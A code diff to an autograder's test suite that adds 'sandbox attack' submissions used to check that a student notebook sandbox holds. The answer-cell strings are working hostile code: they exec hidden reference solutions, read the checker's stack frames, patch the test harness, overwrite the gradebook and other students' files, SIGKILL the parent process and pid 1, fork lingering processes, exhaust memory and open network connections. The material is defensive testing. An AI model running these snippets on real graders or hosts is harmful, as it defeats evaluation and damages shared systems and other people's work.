@@ -7,7 +7,8 @@ solutions) and changes it for the exercises the entry targets: every graded
 exercise of the course (``EVERY``), the course's first one (``FIRST``; the cheapest
 notebook to grade), or named exercises (skipped when the course has none of them).
 ``score`` is what the targeted exercise's graded cell must get ("full" or "zero");
-every other graded cell of the submitted notebooks must keep full marks. ``evidence``
+every other graded cell of the submitted notebooks must keep full marks, except with
+"notebook-zero" (a notebook that ends its sandbox: all its graded cells get 0). ``evidence``
 is text that must appear in the graded cell's output ("graded"), in the answer cell's
 output ("answer"), or in what ``tools.grade autograde`` prints ("autograde").
 Entries with ``score=None`` are not graded at all: the instructor gets an instruction.
@@ -29,7 +30,7 @@ class Adversary:
     id: str                       # also the student id
     what: str
     targets: object               # EVERY, FIRST or a tuple of exercise names
-    score: str | None             # "full", "zero", or None (not graded; see evidence)
+    score: str | None             # "full", "zero", "notebook-zero", or None (not graded; see evidence)
     evidence: tuple = ()          # (where, text) or (where, text, exercise) tuples; default: the first target
     answer: object = None         # (exercise, reference answer code) -> the submitted answer cell
     notebook: object = None       # (notebook node, exercise) -> None: further edits
@@ -153,14 +154,14 @@ ADVERSARIES = [
     # ---- cheating
     Adversary("redefines_tests", "a wrong answer, and the answer cell redefines the test functions and "
               "monkeypatches public_tests and test_utils so that they always pass", EVERY, "zero",
-              (("graded", "replaced by a function written in the notebook"),), answer=_redefines_tests),
+              (("graded", "returned None"),), answer=_redefines_tests),   # the judge never sees the patches
     Adversary("patches_numpy", "BatchNorm hard-wired to training mode, and numpy.allclose and numpy.max replaced so "
               "that every comparison passes", ("identity_block",), "zero",
-              (("graded", "numpy.max was replaced"),), answer=_patches_numpy),
+              (("graded", "don't pass training=True"),), answer=_patches_numpy),   # the judge's numpy is its own
     Adversary("replays_fixtures", "reads the fixtures file and replays the visible test's expected outputs; "
               "no final ReLU for any other input", ("identity_block",), "zero",
-              (("graded", "[PASS] identity_block: all checks passed"), ("graded", "fresh configuration")),
-              answer=_replays_fixtures),
+              (("graded", "could not be loaded without running code written in the notebook"),),
+              answer=_replays_fixtures),        # its Replay layer is a class written in the notebook: refused
     Adversary("visible_configs_only", "right only for the visible test's three configurations (hard-coded)",
               ("convolutional_block",), "zero",
               (("graded", "[PASS] convolutional_block: all checks passed"), ("graded", "fresh configuration")),
@@ -189,4 +190,179 @@ ADVERSARIES = [
               file_name=lambda name: name.replace(".ipynb", "-Copy1.ipynb")),
     Adversary("corrupt", "a file that is not a notebook (truncated JSON)", FIRST, None,
               (("autograde", "not a readable notebook"),), raw='{"cells": [{"cell_type": "code", "sou'),
+]
+
+
+# =============================================================================================================
+# Sandbox attacks (issue 15): each class of attack that worked against the in-kernel grader. The student's
+# notebook now runs in a sandbox (resnet_course/grading/sandbox.py) and a judge outside it runs the checks
+# (resnet_course/grading/judge.py); every entry here must score 0 for its target, and the round trip checks
+# that nothing outside the sandbox changed (course files, other students' rows and submissions, processes,
+# network). Each attack's function ends wrong (returns None) when the attack fails, so a score of 0 is the
+# attack failing, not the function being right by accident.
+SANDBOX_PROBE_PORT_ENV = "RESNET_COURSE_PROBE_PORT"   # a port on the host's loopback the round trip listens on
+
+
+def _attack(ex, body: str, at_cell: str = "") -> str:
+    """An answer cell: ``at_cell`` runs when the notebook runs, ``body`` when the grader calls the function."""
+    indented = "\n".join("    " + line for line in body.strip().splitlines())
+    return f"{at_cell.strip()}\n\n\ndef {ex}(*args, **kwargs):\n{indented}\n    return None\n"
+
+
+def _reads_solutions(ex, ref):
+    # Walk up from the working folder and from public_tests.__file__ to source/<assignment>/*.ipynb and exec the
+    # reference solution of this exercise.
+    return _attack(ex, f"""
+import glob, json, os, public_tests
+starts = [os.getcwd(), os.path.dirname(public_tests.__file__), '/', '/work', '/root', '/tmp']
+for start in starts:
+    folder = start
+    for _ in range(6):
+        for path in glob.glob(os.path.join(folder, 'source', '*', '*.ipynb')):
+            for cell in json.load(open(path))['cells']:
+                if cell.get('metadata', {{}}).get('nbgrader', {{}}).get('grade_id') == '{ex}':
+                    namespace = {{}}
+                    exec(''.join(cell['source']).replace('### BEGIN SOLUTION', '').replace('### END SOLUTION', ''),
+                         globals(), namespace)
+                    return namespace['{ex}'](*args, **kwargs)
+        folder = os.path.dirname(folder)
+""")
+
+
+def _reads_frames(ex, ref):
+    # Return the expected value the checker computed before calling us, found in its frames; and sys.settrace to
+    # rewrite the checker's locals.
+    return _attack(ex, """
+import sys
+frame = sys._getframe(1)
+while frame is not None:
+    for name in ('expected', 'expected_plain', 'expected_residual', 'expected_inf', 'want', 'reference'):
+        if name in frame.f_locals:
+            return frame.f_locals[name]
+    frame = frame.f_back
+sys.settrace(lambda *a: None)
+""")
+
+
+def _disarms_checks(ex, ref):
+    # Replace importlib.reload, builtins.__import__, sys.modules entries and the tamper guard's baseline.
+    return _attack(ex, "", at_cell="""
+import builtins, importlib, sys, types
+import numpy, test_utils
+test_utils._LIBRARY_SNAPSHOT.clear()
+numpy.allclose = lambda *a, **k: True
+importlib.reload = lambda module: module
+_import = builtins.__import__
+fake = types.ModuleType('public_tests')
+fake.__getattr__ = lambda name: (lambda *a, **k: print('[PASS] all checks passed'))
+sys.modules['public_tests'] = fake
+builtins.__import__ = lambda name, *a, **k: fake if name == 'public_tests' else _import(name, *a, **k)
+""")
+
+
+def _writes_where_grading_reads(ex, ref):
+    # The gradebook, the course's public_tests.py, a .pth in site-packages, other students' folders.
+    return _attack(ex, "", at_cell="""
+import glob, os, site, sqlite3, sys, public_tests
+def _try(f):
+    try:
+        f()
+    except Exception as exc:
+        print('refused:', type(exc).__name__)
+folders = [os.getcwd(), os.path.dirname(public_tests.__file__), '/work', '/tmp', '/']
+for start in folders:
+    folder = start
+    for _ in range(6):
+        for db in glob.glob(os.path.join(folder, 'gradebook.db')):
+            _try(lambda: sqlite3.connect(db).execute('update grade set auto_score = 100'))
+        for sub in glob.glob(os.path.join(folder, 'submitted', '*', '*', '*.ipynb')) + \\
+                glob.glob(os.path.join(folder, 'autograded', '*', '*', '*.ipynb')):
+            _try(lambda: open(sub, 'w').write('{}'))
+        folder = os.path.dirname(folder)
+_try(lambda: open(public_tests.__file__, 'a').write('\\ndef _x(): pass\\n'))
+for packages in site.getsitepackages() + [os.path.dirname(os.__file__)]:
+    _try(lambda: open(os.path.join(packages, 'zz_attack.pth'), 'w').write('import os\\n'))
+""")
+
+
+def _kills_its_parent(ex, ref):
+    # Kill the grader while the notebook runs: the parent, pid 1, every process it can signal, then itself.
+    return _attack(ex, "", at_cell="""
+import os, signal
+for pid in (os.getppid(), 1):
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except Exception:
+        pass
+try:
+    os.kill(-1, signal.SIGKILL)
+except Exception:
+    pass
+os.kill(os.getpid(), signal.SIGKILL)
+""")
+
+
+def _lingers(ex, ref):
+    # A child that outlives the notebook and keeps writing, detached from the session.
+    return _attack(ex, "", at_cell="""
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        while True:
+            try:
+                open('/tmp/still_here', 'a').write('x')
+            except Exception:
+                pass
+            time.sleep(0.5)
+    os._exit(0)
+""")
+
+
+def _floods_output(ex, ref):
+    # While the notebook runs: one 50 MB line, then memory held until the limit.
+    return _attack(ex, "", at_cell="""
+print('x' * 50_000_000)
+hold = []
+while True:
+    hold.append(bytearray(100_000_000))
+""")
+
+
+def _reaches_network(ex, ref):
+    # The host's loopback (where the round trip listens) and the outside world.
+    return _attack(ex, "", at_cell=f"""
+import os, socket
+for address in (('127.0.0.1', int(os.environ.get('{SANDBOX_PROBE_PORT_ENV}', '1'))), ('1.1.1.1', 53)):
+    try:
+        socket.create_connection(address, timeout=2).sendall(b'reached')
+        print('reached', address)
+    except Exception as exc:
+        print('no network:', type(exc).__name__)
+""")
+
+
+ADVERSARIES += [
+    Adversary("reads_solutions", "walks up to source/<assignment>/*.ipynb (from the working folder and from "
+              "public_tests.__file__) and runs the reference solution", FIRST, "zero", (("graded", "returned None"),),
+              answer=_reads_solutions),
+    Adversary("reads_frames", "returns the expected value found in the checker's frames (sys._getframe) and sets "
+              "sys.settrace", FIRST, "zero", (("graded", "returned None"),), answer=_reads_frames),
+    Adversary("disarms_checks", "clears the tamper guard's baseline, patches numpy, importlib.reload, "
+              "builtins.__import__ and sys.modules['public_tests']", FIRST, "zero", (("graded", "returned None"),),
+              answer=_disarms_checks),
+    Adversary("writes_where_grading_reads", "writes gradebook.db, public_tests.py, a .pth in site-packages and "
+              "other students' submitted/ and autograded/ notebooks", FIRST, "zero", (("graded", "returned None"),),
+              answer=_writes_where_grading_reads),
+    # These two end their sandbox while the notebook runs: every graded cell of the notebook scores 0 ("did not
+    # run"), and every other student is graded as usual.
+    Adversary("kills_its_parent", "kills its parent, pid 1, every process it can signal, then itself",
+              FIRST, "notebook-zero", (("graded", "run ended before this exercise could be checked"),),
+              answer=_kills_its_parent),
+    Adversary("lingers", "forks a detached process that keeps writing after the notebook ends", FIRST, "zero",
+              (("graded", "returned None"),), answer=_lingers),
+    Adversary("floods_output", "prints one 50 MB line, then holds memory until the limit", FIRST, "notebook-zero",
+              (("graded", "run ended before this exercise could be checked"),), answer=_floods_output),
+    Adversary("reaches_network", "connects to the host's loopback and to the internet", FIRST, "zero",
+              (("graded", "returned None"),), answer=_reaches_network),
 ]
